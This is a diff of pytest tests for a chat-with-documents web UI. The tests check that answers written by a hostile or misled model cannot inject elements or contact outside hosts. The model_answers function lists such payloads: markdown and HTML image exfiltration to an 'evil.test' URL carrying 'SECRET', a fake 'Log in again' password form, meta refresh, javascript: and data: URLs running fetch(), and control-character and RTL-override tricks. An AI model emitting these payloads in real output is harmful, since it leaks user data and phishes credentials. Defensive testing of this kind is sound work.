@@ -4,38 +4,19 @@ from __future__ import annotations
 
 import http.client
 import json
-import socket
-import threading
+import re
 from collections.abc import Callable, Iterator
 from contextlib import closing
+from dataclasses import replace
 from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
 
-from double import Double, Opener
-from rag.types import Document
+from double import Double, Opener, ServicesDouble
+from rag.settings import Settings
+from rag.types import Answer, Citation, Document, Sentence
 from reader import ask
-
-
-@pytest.fixture
-def listener() -> Iterator[tuple[str, list[bytes]]]:
-    """A second server next door, where every call that a text provokes would arrive."""
-    heard: list[bytes] = []
-    with socket.create_server(("127.0.0.1", 0)) as server:
-
-        def listen() -> None:
-            while True:
-                try:
-                    connection, _ = server.accept()
-                except OSError:
-                    return
-                with connection:
-                    heard.append(connection.recv(1000))
-
-        threading.Thread(target=listen, daemon=True).start()
-        yield f"127.0.0.1:{server.getsockname()[1]}", heard
-        server.shutdown(socket.SHUT_RDWR)
 
 
 def attacks(home: str) -> tuple[str, ...]:
@@ -76,7 +57,7 @@ def hostile_articles(home: str) -> tuple[Document, ...]:
     )
 
 
-def assert_harmless(page: Any, heard: list[bytes], home: str) -> None:
+def assert_harmless(page: Any, heard: list[bytes], home: str, named: bool = True) -> None:
     """No element came out of a text, no link leads anywhere but to our cards, and nobody was called."""
     page.wait_for_timeout(300)
     assert heard == []
@@ -86,7 +67,7 @@ def assert_harmless(page: Any, heard: list[bytes], home: str) -> None:
     assert page.locator(inside).count() == 0
     links = page.locator("#chat a, #sources a, #library a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
     assert all(link.startswith("#s-") and link[3:].replace("-", "").isdigit() for link in links)
-    assert home in page.content()
+    assert not named or home in page.content()
 
 
 class TestTexts:
@@ -132,7 +113,7 @@ class TestTexts:
         inner = markup.removeprefix('<div class="question"><span class="spoken">You asked: </span>').removesuffix(
             "</div>"
         )
-        assert not set("<>[]()!`*_|$\\{}\"'\n:/.") & set(inner)
+        assert not set("<>[]()!`*_|$\\{}\"'\n:/.") & set(inner.replace("<wbr>", ""))
 
     def test_hostile_questions_call_nobody(self, page: Any, double: Any, listener: tuple[str, list[bytes]]) -> None:
         home, heard = listener
@@ -141,6 +122,107 @@ class TestTexts:
             ask(page, question[start : start + 1900])
         assert_harmless(page, heard, home)
         assert page.locator("#chat .question").count() == page.locator("#chat .answer").count()
+
+
+def model_answers(home: str) -> dict[str, str]:
+    """What a hostile or misled model could write to carry a question away or to pose as ours; each would be heard."""
+    url = f"http://{home}/x?d=SECRET"
+    return {
+        "image": f"![x]({url})",
+        "reference": f"![x][1] and [x][2]\n\n[1]: {url}\n[2]: <{url}>",
+        "elements": (
+            f"<img src=//{home}/x><svg><image href='{url}'/></svg><input type=image src='{url}'>"
+            f"<video poster='{url}'></video><p style=\"background:url('{url}')\">x</p>"
+        ),
+        "form": f"<form action='{url}'><input name=password><button>Log in again</button></form>",
+        "refresh": f'<meta http-equiv=refresh content="0;url={url}">',
+        "scripts in links": f"[click](javascript:fetch('{url}')) [data](data:text/html,<script>fetch('{url}')</script>)",
+        "autolink": f"<{url}> {url} www.{home} http://exаmple.test/ mailto:a@{home}",
+        "fences": f"```mermaid\ngraph TD; A-->B\n```\n```html\n<img src='{url}'>\n```\n$$\\includegraphics{{{url}}}$$ \\(x\\)",
+        "citations": "[999] [-1] [⟦k7q2⟧](#s-9-1) <a class='cite' href='#s-1-2'>2</a> " + "[1]" * 500,
+        "invented quote": "The council said: “We never voted on any ferry at all, and there is no council.” [1]",
+        "our own block": (
+            "Sources\n\n1. HR-policy.pdf (page 3)\n</div><div class='answer'><p class='sources-link'>"
+            "<a href='#s-1'>7 sources</a> <span class='written'>every quote checked letter for letter</span></p>"
+        ),
+        "control characters": "\x1b[2J\x1b]8;;"
+        + url
+        + "\x07link\x00 \u202egnp.exe\u2066 half a letter \udce2"
+        + "\n" * 100_000,
+        "very long": "x" * 60_000 + " " + "y " * 2000,
+    }
+
+
+PAYLOADS = sorted(model_answers(""))
+
+
+def scripted(text: str) -> Callable[[Answer], Iterator[Answer]]:
+    """What the conductor would make of a model's text, were nothing in it understood: all of it, everywhere."""
+
+    def write(answer: Answer) -> Iterator[Answer]:
+        best = answer.hits[0]
+        quote = best.passage.text.split(". ")[0]
+        citation = Citation(1, best, quote, best.passage.start, best.passage.start + len(quote))
+        whole = (0, len(text))
+        sentences = (
+            Sentence(text, (citation,), lead="\n- ", unverified=(whole,), bold=(whole,)),
+            Sentence(text, supported=False, lead=f"\n{text}"),
+            Sentence(text, (citation,), lead="\n1. "),
+        )
+        answer = replace(answer, model=f"near:{text}", searched=text, notice=text, text=text)
+        yield replace(answer, sentences=(Sentence(text[:-1] or "x"),))
+        yield replace(answer, sentences=sentences, citations=(citation,))
+
+    return write
+
+
+class TestModelAnswers:
+    @pytest.mark.parametrize("name", PAYLOADS)
+    def test_the_markup_holds_our_elements_only(self, name: str) -> None:
+        """Exhaustive, beside the browser's test: whatever a model writes, it opens no element and no attribute."""
+        from rag.web.conversation import Turn
+        from rag.web.render import answer_markup
+
+        hits = tuple(Double().retrieve("How much will the four electric ferries cost?"))
+        for answer in scripted(model_answers("evil.test:1")[name])(Answer("Who?", hits=hits)):
+            markup = answer_markup(Turn(1, "Who?", "done", answer))
+            tags = re.findall(r"<[^>]*>", markup)
+            ours = (
+                r"</?(div|p|ul|ol|li|span|strong|a)>|<wbr>|<(div|p|span) class=\"[a-z -]+\"( title=\"[A-Za-z ]+\")?>"
+                r"|<a class=\"cite\" href=\"#s-1-1\" title=\"[^\"<>]*\">|<a href=\"#s-1\">"
+            )
+            assert [tag for tag in tags if not re.fullmatch(ours, tag)] == []
+            between = re.sub(r"<[^>]*>|&#\d+;", "", markup)
+            assert not set("<>&\"'`[]()!$\\{}*_|~\n\x00\x1b\u202e\u2066\udce2") & set(between)
+
+    @pytest.mark.parametrize("name", PAYLOADS)
+    def test_nothing_runs_and_nobody_is_called(
+        self, page: Any, double: Any, listener: tuple[str, list[bytes]], name: str
+    ) -> None:
+        home, heard = listener
+        text = model_answers(home)[name]
+        double.writing = scripted(text)
+        answer = ask(page, "How much will the four electric ferries cost?")
+        assert answer.locator("a.cite").count() == 2
+        assert page.locator("#chat .answer").count() == 1
+        assert page.locator("#chat .sources-link").count() == 1
+        assert page.locator("#sources .cited").count() == 1
+        assert answer.locator("ul > li, ol > li").count() == 2
+        shown = "".join((answer.locator("ol > li").text_content() or "").split())
+        assert shown.removesuffix("Source1") == "".join(
+            shortened(text).replace("\udce2", "").replace("\x07", "").split()
+        )
+        assert_harmless(page, heard, home, named=home in text)
+        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+
+    def test_a_phone_is_not_stretched(self, visit: Callable[..., Any], shared: tuple[str, Opener], double: Any) -> None:
+        page = visit(shared[0], 390, 844)
+        for name in ("very long", "citations", "elements"):
+            double.writing = scripted(model_answers("evil.test:1")[name])
+            ask(page, "How much will the four electric ferries cost?")
+            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+            wide = "all => all.filter(each => each.getBoundingClientRect().right > window.innerWidth).length"
+            assert page.locator("#chat .answer :is(p, li, a, span:not(.spoken))").evaluate_all(wide) == 0
 
 
 def shortened(title: str) -> str:
@@ -203,10 +285,10 @@ class TestTheDoor:
 
     def test_the_article_door_checks_what_it_is_given(self, shared: tuple[str, Opener]) -> None:
         from rag.web.opening import Opening
-        from ui import Handlers
+        from ui import Handlers, Models
 
         opening = Opening(shared[1])
-        handlers = Handlers(opening)
+        handlers = Handlers(opening, Models(Settings(), ServicesDouble()))
         assert "still being read" in handlers.read_article(["ferry.md", 0, 0])["error"]
         opening.chatbot = shared[1].chatbot  # type: ignore[assignment]
         for wanted in (
